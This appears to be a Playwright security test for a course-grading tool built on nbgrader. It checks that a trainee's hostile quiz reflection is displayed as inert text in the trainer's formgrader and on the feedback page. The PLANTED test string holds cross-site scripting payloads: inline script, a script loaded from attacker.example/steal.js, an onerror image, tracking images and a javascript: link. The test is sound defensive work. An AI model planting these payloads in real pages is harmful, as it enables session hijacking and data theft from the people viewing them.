"""A hostile reflection typed in the quiz's answer box, opened where trainers and trainees read
it: nbgrader's formgrader in a real Jupyter server (the trainer's logged-in session) and the
trainee's feedback page.

The reflection plants a script, an image whose ``onerror`` runs code and images from another
machine. In Chromium no dialog opens, the planted code logs nothing, no request leaves the
machine, and the trainer still reads what was written.
"""

from __future__ import annotations

import functools
import http.server
import os
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from ipt_course.cli import free_port
from ipt_course.grading import synthetic
from ipt_course.grading.autograde import autograde_all
from ipt_course.grading.collect import collect
from ipt_course.grading.feedback import feedback_all
from ipt_course.grading.nbgrader_env import gradebook
from ipt_course.grading.roster import import_roster, read_roster
from ipt_course.quiz.bank import load_bank
from ipt_course.quiz.generate import build_quiz
from tests.browser.conftest import PageLog, screenshot, stop, wait_for_http
from tests.conftest import REPO

pytestmark = pytest.mark.browser

BANK = REPO / "tests" / "unit" / "fixtures" / "quizzes" / "fixture-quiz.yaml"
QUIZ = "fixture-quiz"
TOKEN = "formgrader-test"
PLANTED = (
    "My reflection on the sick role.\n\n"
    '<script>console.log("PLANTED-SCRIPT"); alert("PLANTED-SCRIPT")</script>\n\n'
    '<script src="https://attacker.example/steal.js"></script>\n\n'
    "<img src=x onerror=\"console.log('PLANTED-ONERROR'); alert('PLANTED-ONERROR')\">\n\n"
    '<img src="https://attacker.example/pixel.png">\n\n'
    "![tracker](https://attacker.example/markdown.png)\n\n"
    '<a href="javascript:alert(\'PLANTED-LINK\')">read more</a>'
)


@pytest.fixture(scope="module")
def graded_course(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A course with the fixture quiz, one trainee's hostile reflection autograded and fed back."""
    root = tmp_path_factory.mktemp("course")
    shutil.copy(REPO / "course.yaml", root / "course.yaml")
    shutil.copy(REPO / "nbgrader_config.py", root / "nbgrader_config.py")
    (root / "quizzes").mkdir()
    bank_path = Path(shutil.copy(BANK, root / "quizzes" / BANK.name))
    build_quiz(bank_path, root)
    roster = root / "roster.csv"
    roster.write_text("id,first name,last name,email\nt001,Alex,One,alex@example.org\n")
    import_roster(root, read_roster(roster))
    inbox = root.parent / "inbox"
    bank = load_bank(bank_path)
    written = next(question.id for question in bank.questions if not question.auto_graded)
    # Typed in the quiz's answer box, which saves it with the other answers.
    synthetic.write_submission(inbox / "t001", QUIZ, root / "release" / QUIZ / f"{QUIZ}.ipynb",
                               {**synthetic.perfect_answers(bank), written: PLANTED})
    collect(root, QUIZ, inbox, {"t001"})
    assert autograde_all(root, QUIZ, jobs=1, progress=False).results[0].graded
    assert feedback_all(root, QUIZ, progress=False) == {"t001": []}
    return root


@pytest.fixture(scope="module")
def formgrader(graded_course: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A real Jupyter server with nbgrader's formgrader, started in the course folder."""
    port = free_port()
    config = tmp_path_factory.mktemp("jupyter-config")
    command = [sys.executable, "-m", "jupyter", "server", "--no-browser", f"--port={port}",
               "--ServerApp.ip=127.0.0.1", "--ServerApp.port_retries=0",
               f"--IdentityProvider.token={TOKEN}", "--ServerApp.allow_root=True"]
    environment = {**os.environ, "JUPYTER_CONFIG_DIR": str(config), "PYTHONUNBUFFERED": "1"}
    log = (config / "server.log").open("w")
    process = subprocess.Popen(command, cwd=graded_course, stdout=log, stderr=subprocess.STDOUT,
                               start_new_session=True, env=environment)
    try:
        base = f"http://127.0.0.1:{port}"
        wait_for_http(f"{base}/api/status?token={TOKEN}", process)
        yield base
    finally:
        stop(process)
        log.close()


@pytest.fixture
def feedback_site(graded_course: Path) -> Iterator[str]:
    """The feedback folder on a loopback web server, as a trainee's browser would open a page."""
    handler = functools.partial(http.server.SimpleHTTPRequestHandler,
                                directory=str(graded_course / "feedback"))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def _watch(page: Page) -> tuple[list[str], list[str]]:
    """Every dialog the page opens (dismissed at once) and every console message."""
    dialogs: list[str] = []
    messages: list[str] = []

    def dismiss(dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    page.on("console", lambda message: messages.append(message.text))
    return dialogs, messages


def _assert_nothing_ran(page: Page, page_log: PageLog, dialogs: list[str],
                        messages: list[str]) -> None:
    page.wait_for_load_state("load")
    page.wait_for_timeout(1500)  # an onerror fires after the image fails to load
    assert dialogs == []
    assert [text for text in messages if "PLANTED" in text] == []
    assert page_log.outside_requests == []


def test_formgrader_shows_the_reflection_as_text_and_runs_none_of_it(
        graded_course: Path, formgrader: str, page: Page, page_log: PageLog) -> None:
    with gradebook(graded_course) as book:
        submission = book.find_submission_notebook(QUIZ, QUIZ, "t001").id
    dialogs, messages = _watch(page)
    page.goto(f"{formgrader}/formgrader/submissions/{submission}/?token={TOKEN}")
    answer = page.locator(".nbgrader_cell .text_cell_render").filter(
        has_text="My reflection on the sick role.")
    expect(answer).to_be_visible(timeout=60_000)
    expect(answer).to_contain_text('<script>console.log("PLANTED-SCRIPT")')
    answer.get_by_text("read more").click()
    screenshot(page, "formgrader-hostile-reflection")
    _assert_nothing_ran(page, page_log, dialogs, messages)
    assert page.evaluate("document.querySelectorAll('img[onerror], a[href^=javascript]')"
                         ".length") == 0


def test_the_feedback_page_shows_the_reflection_as_text_and_runs_none_of_it(
        feedback_site: str, page: Page, page_log: PageLog) -> None:
    dialogs, messages = _watch(page)
    page.goto(f"{feedback_site}/t001/{QUIZ}/{QUIZ}.html")
    summary = page.locator("#ipt-feedback")
    expect(summary.get_by_role("heading", level=1)).to_have_text(
        "Fixture quiz: every question type: your feedback")
    expect(summary).to_contain_text('<script>console.log("PLANTED-SCRIPT")')
    notebook_part = page.locator(".text_cell_render").filter(
        has_text="My reflection on the sick role.")
    expect(notebook_part).to_contain_text("<script src=")
    screenshot(page, "feedback-hostile-reflection")
    _assert_nothing_ran(page, page_log, dialogs, messages)
    assert page.evaluate("document.scripts.length") == 0
